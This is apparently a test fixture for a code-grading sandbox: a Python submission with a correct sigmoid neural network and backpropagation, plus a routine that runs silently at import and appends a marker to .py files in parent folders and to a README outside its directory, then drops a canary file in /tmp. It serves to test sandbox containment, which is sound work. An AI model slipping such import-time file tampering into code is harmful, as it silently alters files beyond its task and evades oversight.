# corpus: hostile
# what: at import appends a marker to the .py files in the 4 folders above itself and to /work/main/README.md, and creates /tmp/dlprep-escape-canary
# loses:
# expect: passed
"""Tries to modify files outside its sandbox at import; the functions are correct."""

import contextlib
from pathlib import Path

import numpy as np

MARK = "\n# dlprep-escape: a hostile submission wrote this line\n"
CANARY = "/tmp/dlprep-escape-canary"


def _vandalise():
    """Append MARK to every file in reach (but not to this one) and drop the canary."""
    here = Path(__file__).resolve()
    targets = [p for parent in list(here.parents)[:4] for p in sorted(parent.glob("*.py")) if p != here]
    targets.append(Path("/work/main/README.md"))
    for path in targets:
        with contextlib.suppress(OSError), open(path, "a") as f:
            f.write(MARK)
    with contextlib.suppress(OSError):
        Path(CANARY).write_text("a hostile submission escaped\n")


with contextlib.suppress(Exception):
    _vandalise()


def sigmoid(u):
    """Stable logistic sigmoid for any shape."""
    u = np.asarray(u, dtype=np.float64)
    with np.errstate(under="ignore"):
        e = np.exp(-np.abs(u))
    return np.where(u >= 0, 1.0 / (1.0 + e), e / (1.0 + e))


def forward(X, W1, b1, W2, b2):
    """Return (Z, Y)."""
    Z = sigmoid(X @ W1 + b1)
    Y = sigmoid(Z @ W2 + b2)
    return Z, Y


def loss(Y, R):
    """E = 1/(2N) * sum of squared errors."""
    return float(np.sum((R - Y) ** 2) / (2 * Y.shape[0]))


def backward(X, R, W1, b1, W2, b2):
    """Gradients of E by backpropagation."""
    Z, Y = forward(X, W1, b1, W2, b2)
    delta2 = (Y - R) * Y * (1.0 - Y) / X.shape[0]
    delta1 = (delta2 @ W2.T) * Z * (1.0 - Z)
    return {"W1": X.T @ delta1, "b1": delta1.sum(axis=0), "W2": Z.T @ delta2, "b2": delta2.sum(axis=0)}


def train_step(X, R, W1, b1, W2, b2, alpha):
    """One gradient-descent step returning new arrays."""
    g = backward(X, R, W1, b1, W2, b2)
    return W1 - alpha * g["W1"], b1 - alpha * g["b1"], W2 - alpha * g["W2"], b2 - alpha * g["b2"]
